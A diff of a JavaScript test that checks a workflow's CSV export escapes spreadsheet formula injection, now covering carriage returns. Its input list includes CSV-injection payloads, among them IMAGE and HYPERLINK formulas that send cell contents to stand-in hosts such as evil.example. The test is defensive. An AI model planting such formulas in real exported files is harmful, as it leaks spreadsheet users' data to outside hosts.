@@ -239,9 +239,9 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     const { wf, path, env } = inFolder('captions');
     const first = await rt.pollOnce(world.home, wf, { env });
     expect(first.executions).toEqual([]); // where the feed stands
-    // OWASP's CSV injection starts (=, +, -, @, a tab), and plain captions. Not a carriage return:
-    // n8n 2.8.4's Convert to File writes a lone CR unquoted (`'\r=1+1` measured here), so a CSV
-    // reader ends the row there whatever the twin holds (the Zapier recipe's test covers a CR).
+    // OWASP's CSV injection starts (=, +, -, @, a tab, a carriage return), and plain captions. n8n
+    // 2.8.4's Convert to File writes a lone CR unquoted (`'\r=1+1` split the row): the twin holds a
+    // line feed there, which it quotes.
     const captions = [
       '=IMAGE("https://x.example/?"&A1)',
       '=HYPERLINK("https://evil.example/?"&A1,"win")',
@@ -249,6 +249,8 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
       '@SUM(1)',
       '-2+3',
       '\t=1+1',
+      '\r=1+1',
+      'Fresh\r=2+2',
       'Plain #veganrecipes, with "quotes"',
     ];
     const published = [];
@@ -262,8 +264,11 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     expect(rows.map((row) => row.url)).toEqual(published.map((p) => p.url));
     // The file holds core's spreadsheet-safe twin: a leading ' exactly where a spreadsheet would compute.
     expect(rows.map((row) => row.caption)).toEqual(captions.map(spreadsheetSafe));
-    // Typed into a sheet (the Apps Script stand-in's model of typed input), each is the caption, as text.
-    expect(rows.map((row) => enterValue(row.caption, '', 'UTC'))).toEqual(captions.map((value) => ({ value })));
+    // Typed into a sheet (the Apps Script stand-in's model of typed input), each is the caption, as text
+    // (a lone CR as the line feed the twin holds).
+    expect(rows.map((row) => enterValue(row.caption, '', 'UTC'))).toEqual(
+      captions.map((value) => ({ value: value.replace(/\r(?!\n)/g, '\n') })),
+    );
     // The plain caption would not be: the first would be a live formula.
     expect(enterValue(captions[0], '', 'UTC')).toEqual({ value: '', formula: captions[0] });
   });
